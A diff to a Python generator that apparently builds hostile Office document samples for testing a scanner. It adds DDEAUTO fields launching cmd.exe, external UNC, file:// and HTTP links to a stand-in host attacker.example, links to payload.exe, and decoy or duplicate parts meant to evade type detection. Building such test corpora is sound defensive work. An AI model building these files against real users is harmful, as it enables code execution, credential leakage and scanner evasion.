@@ -198,6 +198,76 @@ def word_activex(name: str, package: Package) -> None:
                    "</w:object></w:r></w:p>")
 
 
+def mail_merge(package: Package) -> None:
+    """A mail-merge data source: Word connects to it (and runs the query) when the document opens."""
+    rel = package.add_relationship("word/settings.xml", "mailMergeSource", "file:///C:/x/db.accdb", external=True)
+    query = "SELECT * FROM `t`"  # what the data source is asked (an SQL text inside the document)
+    merge = ('<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
+             '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=C:\\x\\db.accdb"/>'
+             f'<w:query w:val="{query}"/><w:dataSource r:id="{rel}"/></w:mailMerge>')
+    zoom = '<w:zoom w:val="bestFit"/>'
+    package.edit("word/settings.xml", zoom, zoom + merge)
+
+
+def save_through_xslt(package: Package) -> None:
+    rel = package.add_relationship("word/settings.xml", "transform", "http://attacker.example/t.xslt", external=True)
+    package.insert_before_last("word/settings.xml", "</w:settings>", f'<w:saveThroughXslt r:id="{rel}"/>')
+
+
+def vml_image(how: str, package: Package) -> None:
+    if how == "rel":
+        rel = package.add_relationship("word/document.xml", "image", r"\\attacker.example\share\v.png", external=True)
+        data = f'r:id="{rel}"'
+    else:
+        data = 'src="\\\\attacker.example\\share\\v.png" o:href="file://attacker.example/share/v.png"'
+    _body(package, '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-'
+                   'microsoft-com:office:office" id="adv_img" style="width:20pt;height:20pt">'
+                   f"<v:imagedata {data}/></v:shape></w:pict></w:r></w:p>")
+
+
+def word_embedded_package(package: Package) -> None:
+    inner = Package(_tiny_xlsx_with_dde())
+    rel = package.add_part("word/embeddings/Microsoft_Excel_Worksheet1.xlsx", inner.to_bytes(), f"{X_CT}.sheet",
+                           "word/document.xml", "package")
+    _body(package, '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
+                   f'Type="Embed" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1028" DrawAspect="Content" r:id="{rel}"/>'
+                   "</w:object></w:r></w:p>")
+
+
+DDE_PARAGRAPH = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
+                 ' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar '
+                 'w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
+                 "</w:r></w:p>")
+
+
+def main_part_elsewhere(package: Package) -> None:
+    """The package relationship names word/main.xml (with a DDEAUTO field); the harmless
+    word/document.xml that type detection looks at stays as a decoy nothing reaches."""
+    package.insert_before_last("word/document.xml", "<w:sectPr", DDE_PARAGRAPH)
+    planted = package.parts["word/document.xml"]
+    package.rename("word/document.xml", "word/main.xml")
+    package.parts["word/document.xml"] = planted.replace(DDE_PARAGRAPH.encode(), b"")
+    package.add_override("word/document.xml", f"{W_CT}.document.main+xml")
+
+
+def main_part_percent_encoded(package: Package) -> None:
+    """The officeDocument relationship names the main part with a percent-encoded letter."""
+    package.insert_before_last("word/document.xml", "<w:sectPr", DDE_PARAGRAPH)
+    package.edit("_rels/.rels", 'Target="word/document.xml"', 'Target="word/%64ocument.xml"')
+
+
+def duplicate_document(attack_last: bool, package: Package) -> None:
+    """word/document.xml twice in the ZIP: the harmless one and one with a DDEAUTO field."""
+    harmless = package.parts["word/document.xml"]
+    package.insert_before_last("word/document.xml", "<w:sectPr", DDE_PARAGRAPH)
+    planted = package.parts["word/document.xml"]
+    if attack_last:
+        package.parts["word/document.xml"] = harmless
+        package.extra.append(("word/document.xml", planted))
+    else:
+        package.extra.append(("word/document.xml", harmless))
+
+
 # --- Excel: external links, connections, macro sheets, hyperlinks -------------------------------
 def external_link(kind: str, content_type: str, name: str, package: Package) -> None:
     if kind == "dde":
@@ -211,6 +281,23 @@ def external_link(kind: str, content_type: str, name: str, package: Package) -> 
     rel = package.add_part(name, xml, content_type, "xl/workbook.xml", "externalLink")
     if kind != "dde":
         package.add_relationship(name, "externalLinkPath", kind, external=True)
+    package.edit("xl/workbook.xml", "</sheets>", f'</sheets><externalReferences><externalReference r:id="{rel}"/>'
+                                                  "</externalReferences>")
+
+
+def external_ole_link(package: Package) -> None:
+    """A linked OLE object kept in an external-link part (the object updates from a file)."""
+    xml = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns="http://schemas.'
+           b'openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
+           b'2006/relationships"><oleLink r:id="rId1" progId="Package"><oleItems><oleItem name="\'" advise="1" '
+           b'preferPic="1"/></oleItems></oleLink></externalLink>')
+    name = "xl/externalLinks/externalLink1.xml"
+    rel = package.add_part(name, xml, f"{X_CT}.externalLink+xml", "xl/workbook.xml", "externalLink")
+    package.parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
+        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
+        b'.org/officeDocument/2006/relationships/oleObject" Target="file:///C:/x/payload.exe" TargetMode="External"/>'
+        b"</Relationships>")
     package.edit("xl/workbook.xml", "</sheets>", f'</sheets><externalReferences><externalReference r:id="{rel}"/>'
                                                   "</externalReferences>")
 
@@ -235,6 +322,21 @@ def macro_sheet(content_type: str, package: Package) -> None:
                                                       "</definedName>")
 
 
+def web_publish(package: Package) -> None:
+    """Republish a range to a file share every time the workbook is saved."""
+    package.insert_before_last("xl/workbook.xml", "</workbook>",
+                               '<webPublishObjects count="1"><webPublishObject id="1" divId="adv" '
+                               'sourceObject="データ!A1:D4" destinationFile="\\\\attacker.example\\share\\p.htm" '
+                               'autoRepublish="1"/>'
+                               "</webPublishObjects>")
+
+
+def chart_external_data(package: Package) -> None:
+    rel = package.add_relationship("xl/charts/chart1.xml", "oleObject", "file:///C:/x/data.xlsx", external=True)
+    package.insert_before_last("xl/charts/chart1.xml", "</c:chartSpace>",
+                               f'<c:externalData r:id="{rel}"><c:autoUpdate val="1"/></c:externalData>')
+
+
 def sheet_hyperlink(target: str, package: Package) -> None:
     sheet = "xl/worksheets/sheet1.xml"
     rel = package.add_relationship(sheet, "hyperlink", target, external=True)
@@ -256,6 +358,27 @@ def action(target: str | None, verb: str, element: str, part: str, package: Pack
         at = text.index("<p:cNvPr", text.index("<p:sp>"))
         end = text.index("/>", at)
         package.set_text(part, text[:end] + f">{click}</p:cNvPr>" + text[end + 2:])
+
+
+def slide_media(kind: str, package: Package) -> None:
+    """A sound on click or a linked video: both fetched from a share when the slide shows."""
+    target = r"\\attacker.example\share\m.wav"
+    if kind == "sound":
+        rel = package.add_relationship(SLIDE, "audio", target, external=True)
+        package.edit(SLIDE, SHAPE, SHAPE[:-2] + f'><a:hlinkClick r:id=""><a:snd r:embed="{rel}" name="m.wav"/>'
+                                                '</a:hlinkClick></p:cNvPr>')
+    else:
+        rel = package.add_relationship(SLIDE, "video", target.replace(".wav", ".mp4"), external=True)
+        package.edit(SLIDE, '<p:nvPr/></p:nvSpPr>', f'<p:nvPr><a:videoFile r:link="{rel}"/></p:nvPr></p:nvSpPr>')
+
+
+def slide_activex(package: Package) -> None:
+    ocx = (b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid='
+           b'"{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistPropertyBag"><ax:ocxPr ax:name="Caption" '
+           b'ax:value="x"/></ax:ocx>')
+    rel = package.add_part("ppt/activeX/activeX1.xml", ocx, "application/vnd.ms-office.activeX+xml", SLIDE, "control")
+    package.edit(SLIDE, "</p:spTree>", '</p:spTree><p:controls><p:control name="TextBox1" r:id="'
+                                       f'{rel}" imgW="914400" imgH="914400"/></p:controls>')
 
 
 def run_link(target: str, package: Package) -> None:
@@ -359,6 +482,17 @@ def package_variants() -> list[Variant]:
         "oleObject-as-emf-content-type-emf": partial(word_ole, "word/media/image7.emf", "image/x-emf"),
         "activeX": partial(word_activex, "word/activeX/activeX1.xml"),
         "activeX-odd-name": partial(word_activex, "word/media/ctl1.xml"),
+        "mailMerge-dataSource": mail_merge,
+        "saveThroughXslt-http": save_through_xslt,
+        "vml-imagedata-external-unc": partial(vml_image, "rel"),
+        "vml-imagedata-src-unc": partial(vml_image, "src"),
+        "embedded-xlsx-with-dde": word_embedded_package,
+        "hyperlink-file-host": partial(word_hyperlink, "file://attacker.example/share/a.exe", "External"),
+        "hyperlink-relative-path": partial(word_hyperlink, "..\\..\\Windows\\System32\\calc.exe", "External"),
+        "duplicate-document-entry-planted-last": partial(duplicate_document, True),
+        "duplicate-document-entry-planted-first": partial(duplicate_document, False),
+        "main-part-elsewhere-decoy-document": main_part_elsewhere,
+        "main-part-target-percent-encoded": main_part_percent_encoded,
     }
     for construct, build in word.items():
         out.append(Variant("package", construct, "plain", "word", "word.docx", build))
@@ -378,6 +512,9 @@ def package_variants() -> list[Variant]:
         "macrosheet-as-worksheet-type": partial(macro_sheet, f"{X_CT}.worksheet+xml"),
         "sheet-hyperlink-file": partial(sheet_hyperlink, "file:///C:/Windows/System32/calc.exe"),
         "sheet-hyperlink-unc": partial(sheet_hyperlink, r"\\attacker.example\share\a.exe"),
+        "webPublishObject-unc": web_publish,
+        "chart-externalData-file": chart_external_data,
+        "externalLink-oleLink-file": external_ole_link,
     }
     for construct, build in excel.items():
         out.append(Variant("package", construct, "plain", "excel", "excel.xlsx", build))
@@ -396,6 +533,13 @@ def package_variants() -> list[Variant]:
         ("ole-embedded", "slide"): partial(slide_ole, "embedded"),
         ("ole-package-xlsx-with-dde", "slide"): partial(slide_ole, "package-with-dde"),
         ("ole-linked-file", "slide"): partial(slide_ole, "linked"),
+        ("action-hlinkfile", "shape-click"): partial(action, calc, "ppaction://hlinkfile", "hlinkClick", SLIDE),
+        ("action-hlinkpres", "shape-click"): partial(action, r"\\attacker.example\share\p.pptx",
+                                                     "ppaction://hlinkpres?slideindex=1&amp;slidetitle=", "hlinkClick",
+                                                     SLIDE),
+        ("sound-external-unc", "shape-click"): partial(slide_media, "sound"),
+        ("video-external-unc", "shape"): partial(slide_media, "video"),
+        ("activeX-control", "slide"): slide_activex,
     }
     for (construct, where), build in slides.items():
         out.append(Variant("powerpoint", construct, "plain", where, "slides.pptx", build))
